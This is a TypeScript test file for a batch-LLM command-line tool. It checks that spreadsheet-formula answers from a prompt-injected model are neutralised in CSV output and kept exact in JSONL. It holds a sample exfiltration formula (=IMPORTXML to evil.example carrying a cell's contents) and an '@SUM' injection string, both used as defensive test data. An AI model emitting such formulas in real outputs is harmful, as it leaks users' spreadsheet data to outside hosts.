/**
 * A prompt-injected model answers with a formula: through build → submit → collect --csv against
 * the local fake API, results.csv shows it as text (leading ') and results.jsonl keeps it exact.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, expect, test } from 'vitest';
import { run } from '../../src/cli/run.js';
import { startFakeBatchServer, type FakeServer } from '../support/fake-batch-server.js';
import { captureIo } from '../support/io.js';
import { jsonl, project } from '../support/project.js';

let server: FakeServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const FORMULA = '=IMPORTXML("https://evil.example/?leak="&A2,"//a")';

test('formula answers are neutralized in results.csv and exact in results.jsonl', async () => {
  server = await startFakeBatchServer({
    respond: (line) => ({ status_code: 200, body: { choices: [{ index: 0, message: { role: 'assistant', content: line.custom_id === 'q-1' ? FORMULA : '@SUM(1)' } }] } }),
  });
  const cwd = project({ 'data/q.csv': 'id,q\n1,-5 apples?\n2,plain\n' });
  writeFileSync(
    path.join(cwd, 'batch.config.yaml'),
    `base_url: { openai: ${server.openAiBaseUrl} }\nmodel: m\nparams: { max_tokens: 8 }\nsource: { path: data/q.csv }\ncustom_id: "q-{{id}}"\nmessages:\n  - role: user\n    content: "{{q}}"\n`,
  );
  const env = { OPENAI_API_KEY: 'test-key' };
  for (const argv of [['build'], ['submit', '--wait', '--poll', '0.01'], ['collect', '--csv']]) {
    const io = { ...captureIo(cwd), env };
    expect(await run(argv, io), io.err.join('')).toBe(0);
  }
  const csv = parse(readFileSync(path.join(cwd, 'out/results.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
  expect(csv.map((r) => [r.q, r.answer])).toEqual([
    ["'-5 apples?", `'${FORMULA}`],
    ['plain', "'@SUM(1)"],
  ]);
  expect(jsonl(readFileSync(path.join(cwd, 'out/results.jsonl'), 'utf8')).map((r) => [(r.row as { q: string }).q, r.answer])).toEqual([
    ['-5 apples?', FORMULA],
    ['plain', '@SUM(1)'],
  ]);
});
